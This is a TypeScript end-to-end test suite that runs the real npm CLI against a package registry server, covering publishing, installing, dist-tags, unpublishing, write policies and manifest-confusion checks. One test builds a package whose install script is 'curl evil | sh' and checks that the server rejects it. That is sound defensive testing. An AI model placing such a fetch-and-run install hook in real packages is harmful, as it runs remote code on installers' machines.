import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { depotSlot, describeEachBackend } from './helpers/use-depot.js';

const run = promisify(execFile);
const depot = depotSlot();
const { client } = depot;
let work: string;
let npmrc: string;
let registry: string;
let token: string;
/** An authenticated GET, as the CLI would send it. */
const get = (url: string): Promise<Response> => fetch(url, { headers: { authorization: `Bearer ${token}` } });

/** Runs the real npm CLI with a private userconfig and cache (never ~/.npmrc). */
async function npm(args: readonly string[], cwd = work): Promise<{ stdout: string; stderr: string }> {
  return run(
    'npm',
    [
      ...args,
      '--userconfig',
      npmrc,
      '--cache',
      join(work, 'cache'),
      '--registry',
      registry,
      '--no-audit',
      '--no-fund',
      '--no-update-notifier',
    ],
    {
      cwd,
      env: { ...process.env, npm_config_loglevel: 'warn' },
      timeout: 120_000,
    },
  );
}

function writePackage(name: string, version: string, extra: Record<string, unknown> = {}): string {
  const dir = join(work, 'pkgs', `${name.replace('/', '__')}-${version}`);
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'package.json'),
    JSON.stringify({ name, version, main: 'index.js', license: 'MIT', description: `${name} for e2e`, ...extra }),
  );
  const deps = Object.keys((extra.dependencies as Record<string, string> | undefined) ?? {});
  const body =
    deps.length === 0 ? `"${name}@${version}"` : `"${name}@${version}+" + require(${JSON.stringify(deps[0])})()`;
  writeFileSync(join(dir, 'index.js'), `module.exports = () => ${body};\n`);
  return dir;
}

describeEachBackend('npm CLI', (backend) => {
  depot.use({ backend });
  beforeAll(async () => {
    for (const name of ['npm-hosted']) {
      const res = await client.post('/api/v1/repositories', {
        name,
        repo_type: 'hosted',
        format: 'npm',
        store: 'default',
      });
      expect(res.status, JSON.stringify(res.body)).toBeLessThan(300);
    }
    work = mkdtempSync(join(tmpdir(), 'depot-npm-cli-'));
    registry = `${depot.url}/repository/npm-hosted/`;
    const login = await fetch(`${registry}-/user/org.couchdb.user:admin`, {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        _id: 'org.couchdb.user:admin',
        name: 'admin',
        password: depot.adminPassword,
        type: 'user',
        roles: [],
      }),
    });
    expect(login.status).toBe(201);
    token = ((await login.json()) as { token: string }).token;
    npmrc = join(work, 'npmrc');
    writeFileSync(npmrc, `//127.0.0.1:${depot.port}/repository/npm-hosted/:_authToken=${token}\n`);
  }, 180_000);

  afterAll(async () => {
    if (work !== undefined) rmSync(work, { recursive: true, force: true });
  });

  describe('the real npm CLI against a hosted npm repository', () => {
    it('whoami, publishes unscoped and scoped packages, installs from a clean cache, views', async () => {
      expect((await npm(['whoami'])).stdout.trim()).toBe('admin');
      await npm(['publish', writePackage('e2e-base', '1.0.0')]);
      await npm([
        'publish',
        '--access',
        'public',
        writePackage('@e2e/app', '1.0.0', { dependencies: { 'e2e-base': '^1.0.0' } }),
      ]);
      const consumer = join(work, 'consumer');
      mkdirSync(consumer, { recursive: true });
      writeFileSync(
        join(consumer, 'package.json'),
        JSON.stringify({ name: 'consumer', version: '1.0.0', private: true }),
      );
      await npm(['install', '@e2e/app'], consumer);
      const out = await run('node', ['-e', 'console.log(require("@e2e/app")())'], { cwd: consumer });
      expect(out.stdout.trim()).toBe('@e2e/app@1.0.0+e2e-base@1.0.0');
      const view = JSON.parse((await npm(['view', '@e2e/app', '--json'])).stdout) as { name: string; version: string };
      expect([view.name, view.version]).toEqual(['@e2e/app', '1.0.0']);
    });

    it('dist-tag add/ls/rm, deprecate, search', async () => {
      await npm(['publish', '--tag', 'next', writePackage('e2e-base', '2.0.0-beta.1')]);
      await npm(['dist-tag', 'add', 'e2e-base@1.0.0', 'stable']);
      const ls = (await npm(['dist-tag', 'ls', 'e2e-base'])).stdout;
      expect(ls).toContain('stable: 1.0.0');
      expect(ls).toContain('next: 2.0.0-beta.1');
      await npm(['dist-tag', 'rm', 'e2e-base', 'stable']);
      expect((await npm(['dist-tag', 'ls', 'e2e-base'])).stdout).not.toContain('stable');
      await npm(['deprecate', 'e2e-base@1.0.0', 'use 2.x']);
      const deprecated = JSON.parse((await npm(['view', 'e2e-base@1.0.0', 'deprecated', '--json'])).stdout) as string;
      expect(deprecated).toBe('use 2.x');
      const search = JSON.parse((await npm(['search', 'e2e', '--json'])).stdout) as { name: string }[];
      expect(search.map((p) => p.name).sort()).toEqual(['@e2e/app', 'e2e-base']);
    });

    it('unpublishes a version, then a whole package', async () => {
      await npm(['unpublish', 'e2e-base@2.0.0-beta.1']);
      const versions = JSON.parse((await npm(['view', 'e2e-base', 'versions', '--json'])).stdout) as string[] | string;
      expect(versions).toEqual(Array.isArray(versions) ? ['1.0.0'] : '1.0.0');
      const tarball = await get(`${registry}e2e-base/-/e2e-base-2.0.0-beta.1.tgz`);
      expect(tarball.status).toBe(404);
      await npm(['unpublish', '@e2e/app', '--force']);
      const gone = await get(`${registry}@e2e%2fapp`);
      expect(gone.status).toBe(404);
    });
  });

  describe('repository policies with the real npm CLI', () => {
    it('a version publishes once (npm says so); a read_only repository refuses publish and unpublish (E405)', async () => {
      await npm(['publish', writePackage('e2e-policy', '1.0.0')]);
      writeFileSync(join(work, 'pkgs', 'e2e-policy-1.0.0', 'extra.js'), 'changed\n');
      await expect(npm(['publish', join(work, 'pkgs', 'e2e-policy-1.0.0')])).rejects.toThrow(
        /previously published versions: 1.0.0/,
      );
      const frozen = await client.put('/api/v1/repositories/npm-hosted', { write_policy: 'read_only' });
      expect(frozen.status).toBe(200);
      try {
        await expect(npm(['publish', writePackage('e2e-policy', '1.0.1')])).rejects.toThrow(/E405/);
        await expect(npm(['unpublish', 'e2e-policy@1.0.0', '--force'])).rejects.toThrow(/E405/);
        const versions = JSON.parse((await npm(['view', 'e2e-policy', 'versions', '--json'])).stdout) as
          | string[]
          | string;
        expect(versions).toEqual(Array.isArray(versions) ? ['1.0.0'] : '1.0.0');
      } finally {
        expect((await client.put('/api/v1/repositories/npm-hosted', { write_policy: null })).status).toBe(200);
      }
    });
  });

  describe('manifest confusion: the tarball package.json must agree with the publish document', () => {
    it('the real npm publish still publishes bins (string and directories.bin), install scripts, binding.gyp, deps', async () => {
      await npm(['publish', writePackage('mc-bin', '1.0.0', { bin: './cli.js' })]);
      const withDir = writePackage('mc-dirbin', '1.0.0', { directories: { bin: './bin' } });
      mkdirSync(join(withDir, 'bin'));
      writeFileSync(join(withDir, 'bin', 'tool'), '#!/usr/bin/env node\n');
      await npm(['publish', withDir]);
      await npm([
        'publish',
        writePackage('mc-scripts', '1.0.0', {
          scripts: { postinstall: 'node -e 0', test: 'node -e 0' },
          dependencies: { 'mc-bin': '^1.0.0', gh: 'github:user/repo#v1' },
          optionalDependencies: { 'mc-dirbin': '^1.0.0' },
          os: ['linux'],
          engines: { node: '>=18' },
        }),
      ]);
      const gyp = writePackage('mc-gyp', '1.0.0');
      writeFileSync(join(gyp, 'binding.gyp'), '{"targets":[]}');
      await npm(['publish', gyp]);
      const view = JSON.parse((await npm(['view', 'mc-gyp@1.0.0', 'scripts', '--json'])).stdout) as {
        install?: string;
      };
      expect(view.install).toBe('node-gyp rebuild');
      const bins = JSON.parse((await npm(['view', 'mc-dirbin@1.0.0', 'bin', '--json'])).stdout) as Record<
        string,
        string
      >;
      expect(bins).toEqual({ tool: 'bin/tool' });
    });

    it('a raw publish whose tarball hides an install script or a dependency → 400 BAD_REQUEST, nothing stored', async () => {
      const dir = writePackage('mc-evil', '1.0.0', {
        scripts: { install: 'curl evil | sh' },
        dependencies: { x: '1' },
      });
      const packed = JSON.parse((await npm(['pack', '--json', '--pack-destination', work], dir)).stdout) as {
        filename: string;
      }[];
      const tgz = readFileSync(join(work, packed[0]?.filename ?? ''));
      const clean = { name: 'mc-evil', version: '1.0.0', main: 'index.js', license: 'MIT' };
      const put = (tarball: Buffer) =>
        fetch(`${registry}mc-evil`, {
          method: 'PUT',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({
            _id: 'mc-evil',
            name: 'mc-evil',
            'dist-tags': { latest: '1.0.0' },
            versions: {
              '1.0.0': {
                ...clean,
                _id: 'mc-evil@1.0.0',
                dist: {
                  integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
                  shasum: createHash('sha1').update(tarball).digest('hex'),
                  tarball: `${registry}mc-evil/-/mc-evil-1.0.0.tgz`,
                },
              },
            },
            _attachments: {
              'mc-evil-1.0.0.tgz': {
                content_type: 'application/octet-stream',
                data: tarball.toString('base64'),
                length: tarball.byteLength,
              },
            },
          }),
        });
      const res = await put(tgz);
      expect(res.status).toBe(400);
      const body = (await res.json()) as { error: string; code: string };
      expect(body.code).toBe('BAD_REQUEST');
      expect(body.error).toMatch(/dependencies.*scripts/);
      const corrupt = Buffer.from(tgz);
      corrupt.fill(0x55, 20, 60);
      const bad = await put(corrupt);
      expect([bad.status, ((await bad.json()) as { code: string }).code]).toEqual([400, 'BAD_REQUEST']);
      expect((await get(`${registry}mc-evil`)).status).toBe(404);
      expect((await get(`${registry}mc-evil/-/mc-evil-1.0.0.tgz`)).status).toBe(404);
      expect((await get(`${registry}-/ping`)).status).toBe(200);
    });
  });
});
